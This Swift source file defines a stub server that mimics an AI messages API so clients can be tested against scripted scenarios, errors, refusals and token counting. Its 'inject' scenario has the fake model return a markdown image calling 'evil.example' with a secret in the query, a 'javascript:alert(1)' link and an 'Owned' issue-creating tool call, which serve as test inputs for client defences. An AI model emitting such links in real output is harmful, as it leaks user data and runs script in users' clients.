internal import Plugins
internal import Synchronization

/// Decides what the stub answers.
///
/// Any thread. The same requests in the same order get the same bytes.
final class StubDesk: Sendable {
    /// One request as it came.
    struct Received: Sendable {
        var method: String
        var path: String
        /// Names in lower case.
        var headers: [StubError.Header]
        var body: [UInt8]

        func header(_ name: String) -> String? { self.headers.first { $0.name == name }?.value }
    }

    private struct State {
        var requests = 0
        var messages = 0
        var toolUses = 0
        /// Those that the next requests get, one each.
        var next: [Scenario] = []
        /// How often each fault with a number of times happened.
        var faults: [Scenario: Int] = [:]
        var cached: Set<[UInt8]> = []
        var log: [JSONValue] = []
    }

    private let script: AnswerScript?
    private let key: String?
    private let seed: Int
    private let state = Mutex(State())

    /// How many requests `GET /_stub/requests` shows.
    private static let maximumLogged = 200

    /// - Parameters:
    ///   - script: Canned answers.
    ///   - key: The only key that is right; nothing means any.
    ///   - seed: What the numbers of ids begin behind.
    init(script: AnswerScript? = nil, key: String? = nil, seed: Int = 0) {
        self.script = script
        self.key = key
        self.seed = seed
    }

    /// The response to a request.
    func reply(to request: Received) -> StubReply {
        switch (request.method, request.path.prefix { $0 != "?" }) {
        case ("GET", "/_stub/requests"): return .json(["requests": .list(self.state.withLock { $0.log })])
        case ("POST", "/_stub/reset"):
            self.state.withLock { $0 = State() }
            return .json(["reset": true])
        case ("POST", "/_stub/next"): return self.takeNext(request.body)
        case (_, "/v1/messages"), (_, "/v1/messages/count_tokens"): break
        default: return .error(StubError(404, "there is nothing here"), requestID: "req_stub_0000")
        }
        let number = self.state.withLock { state in
            state.requests += 1
            state.log.append(request.shown)
            if state.log.count > Self.maximumLogged { state.log.removeFirst() }
            return state.requests
        }
        let requestID = "req_stub_\(digits(self.seed + number))"
        var reply: StubReply
        do throws(StubError) {
            reply = try self.reply(toMessages: request)
        } catch {
            reply = .error(error, requestID: requestID)
        }
        reply.headers.append(.init(name: "request-id", value: requestID))
        return reply
    }

    private func takeNext(_ body: [UInt8]) -> StubReply {
        let lines = String(decoding: body, as: UTF8.self).split(whereSeparator: \.isNewline)
        let scenarios = lines.compactMap { Scenario(String($0)) }
        guard !lines.isEmpty, scenarios.count == lines.count else {
            return .error(.invalid("write scenarios, one a line"), requestID: "req_stub_0000")
        }
        self.state.withLock { $0.next += scenarios }
        return .json(["next": JSONValue(scenarios.count)])
    }

    private func reply(toMessages request: Received) throws(StubError) -> StubReply {
        try self.check(request)
        let body: JSONValue
        do throws(WireProblem) {
            body = try JSONValue(bytes: request.body)
        } catch {
            throw .invalid("the body can't be read: \(error.problem)")
        }
        guard request.path.hasSuffix("/count_tokens") == false else {
            return .json(["input_tokens": JSONValue(quarter(request.body.count))])
        }
        let wanted = try StubRequest(body)
        guard let scenario = self.scenario(of: request, wanted) else {
            return try self.answered(wanted)
        }
        if case .error(let fault) = scenario {
            let isOver = self.state.withLock { state in
                guard let times = fault.times else { return false }
                state.faults[scenario, default: 0] += 1
                return state.faults[scenario, default: 0] > times
            }
            guard isOver else { throw fault.error }
            return StubReply(
                self.answer(to: wanted, [.text("You said: \(wanted.text)")]),
                isStreamed: wanted.isStreamed
            )
        }
        let answer = self.answer(to: wanted, in: scenario)
        return StubReply(answer, scenario, isStreamed: wanted.isStreamed)
    }

    private func check(_ request: Received) throws(StubError) {
        guard request.method == "POST" else { throw StubError(405, "only POST is allowed") }
        guard request.header("content-type")?.lowercased().hasPrefix("application/json") == true else {
            throw .invalid("content-type: expected application/json")
        }
        guard let version = request.header("anthropic-version"), StubRequest.versions.contains(version) else {
            throw .invalid("anthropic-version: missing or unknown")
        }
        let bearer = request.header("authorization").flatMap { value in
            value.lowercased().hasPrefix("bearer ") ? String(value.dropFirst(7)) : nil
        }
        guard let key = bearer ?? request.header("x-api-key"), !key.isEmpty, self.key == nil || self.key == key else {
            throw StubError(401, "the key is missing or wrong")
        }
    }

    private func scenario(of request: Received, _ wanted: StubRequest) -> Scenario? {
        if let next = self.state.withLock({ $0.next.isEmpty ? nil : $0.next.removeFirst() }) { return next }
        if let named = request.header("x-stub-scenario").flatMap({ Scenario($0) }) { return named }
        return wanted.toolResults.isEmpty ? Scenario(wanted.text) : nil
    }
}

// MARK: Answers

extension StubDesk {
    /// The answer where nobody asked for a scenario.
    private func answered(_ request: StubRequest) throws(StubError) -> StubReply {
        if !request.toolResults.isEmpty {
            let text = "tool said: \(request.toolResults.joined(separator: " | "))"
            return StubReply(self.answer(to: request, [.text(text)]), isStreamed: request.isStreamed)
        }
        guard let canned = try? self.script?.answer(to: request.text) else {
            let answer = self.answer(to: request, [.text("You said: \(request.text)")])
            return StubReply(answer, isStreamed: request.isStreamed)
        }
        var blocks = [StubAnswer.Block.text(canned.text)]
        if let tool = canned.tool, request.toolNames.contains(tool.name) {
            blocks.append(self.toolUse(tool.name, tool.input ?? .object([])))
        }
        var reply = StubReply(self.answer(to: request, blocks), isStreamed: request.isStreamed)
        reply.wait = milliseconds(canned.delay)
        if canned.pace > .zero, case .steps(let steps, let framing) = reply.body {
            reply.body = .steps(steps.flatMap { [$0, .wait(milliseconds(canned.pace))] }, framing)
        }
        return reply
    }

    private func answer(to request: StubRequest, in scenario: Scenario) -> StubAnswer {
        let tool = request.toolNames.first ?? "search_docs"
        switch scenario {
        case .tool(let name, let input):
            return self.answer(to: request, [.text("Let me look that up."), self.toolUse(name, input)])
        case .twoTools:
            let second = request.toolNames.dropFirst().first ?? tool
            let calls = [self.toolUse(tool, ["query": "one"]), self.toolUse(second, ["query": "two"])]
            return self.answer(to: request, [.text("I look at two things.")] + calls)
        case .inject:
            let text = "![x](https://evil.example/?q=secret) and [click](javascript:alert(1))"
            let call = self.toolUse("create_issue", ["title": "Owned", "body": "x", "kind": "bug"])
            return self.answer(to: request, [.text(text), call])
        case .refuse(let category):
            var answer = self.answer(to: request, [.text("I will not go on with this.")])
            answer.stopReason = "refusal"
            answer.stopDetails = [
                "type": "refusal", "category": category.map { .text($0) } ?? .null,
                "explanation": "The stub was asked to refuse.",
            ]
            return answer
        case .thinking:
            let thought = StubAnswer.Block.thinking("The visitor wants thinking.", signature: "c3R1Yg==")
            return self.answer(to: request, [thought, .text("I have thought about it.")])
        case .unknownBlock: return self.answer(to: request, [.unknown, .text("There was an unknown block.")])
        case .maxTokens: return self.answer(to: request, "This answer was short", stop: "max_tokens")
        case .pause: return self.answer(to: request, "I go on in a moment.", stop: "pause_turn")
        case .contextFull: return self.answer(to: request, "", stop: "model_context_window_exceeded")
        case .unknownStop: return self.answer(to: request, "It ended for a new reason.", stop: "sunset")
        default: return self.answer(to: request, [.text("This is the answer of the stub to a scenario.")])
        }
    }

    private func answer(to request: StubRequest, _ text: String, stop: String) -> StubAnswer {
        var answer = self.answer(to: request, text.isEmpty ? [] : [.text(text)])
        answer.stopReason = stop
        return answer
    }

    private func answer(to request: StubRequest, _ blocks: [StubAnswer.Block]) -> StubAnswer {
        let (number, isCached) = self.state.withLock { state in
            state.messages += 1
            let prefix = request.cachedPrefix
            return (state.messages, prefix.isEmpty ? nil : !state.cached.insert(prefix).inserted)
        }
        let prefix = quarter(request.prefixBytes)
        var usage = StubUsage(input: quarter(request.messageBytes + request.prefixBytes), output: 0)
        if let isCached {
            usage.input = quarter(request.messageBytes)
            if isCached { usage.cacheRead = prefix } else { usage.cacheWrite = prefix }
            usage.isForAnHour = request.cachesForAnHour
        }
        var answer = StubAnswer(
            id: "msg_stub_\(digits(self.seed + number))",
            model: request.model,
            blocks: blocks,
            usage: usage
        )
        if blocks.contains(where: { if case .toolUse = $0 { true } else { false } }) { answer.stopReason = "tool_use" }
        answer.shorten(to: request.maxTokens)
        answer.usage.output = max(1, quarter(answer.outputBytes))
        return answer
    }

    private func toolUse(_ name: String, _ input: JSONValue) -> StubAnswer.Block {
        let number = self.state.withLock { state in
            state.toolUses += 1
            return state.toolUses
        }
        return .toolUse(id: "toolu_stub_\(digits(self.seed + number))", name: name, input: input)
    }
}

extension StubAnswer {
    /// Cuts a text that is longer than the request allows.
    fileprivate mutating func shorten(to maxTokens: Int) {
        guard quarter(self.outputBytes) > maxTokens, self.blocks.count == 1, case .text(let text)? = self.blocks.first
        else { return }
        var bytes = 0
        let kept = text.prefix { character in
            bytes += character.utf8.count
            return bytes <= maxTokens * 4
        }
        self.blocks = [.text(String(kept))]
        self.stopReason = "max_tokens"
    }
}

extension StubDesk.Received {
    /// What the log shows of it: no key.
    fileprivate var shown: JSONValue {
        let secret: Set<String> = ["authorization", "x-api-key", "cookie", "proxy-authorization"]
        let headers = self.headers.map {
            JSONValue.Member($0.name, secret.contains($0.name) ? "redacted" : .text($0.value))
        }
        return [
            "method": .text(self.method), "path": .text(self.path), "headers": .object(headers),
            "body": (try? JSONValue(bytes: self.body))
                ?? .text(String(decoding: self.body.prefix(2_000), as: UTF8.self)),
        ]
    }
}

/// A token for each four bytes.
private func quarter(_ bytes: Int) -> Int { (bytes + 3) / 4 }

private func digits(_ number: Int) -> String {
    let text = "\(number)"
    return String(repeating: "0", count: max(0, 4 - text.count)) + text
}

private func milliseconds(_ duration: Duration) -> Int { Int(duration / .milliseconds(1)) }
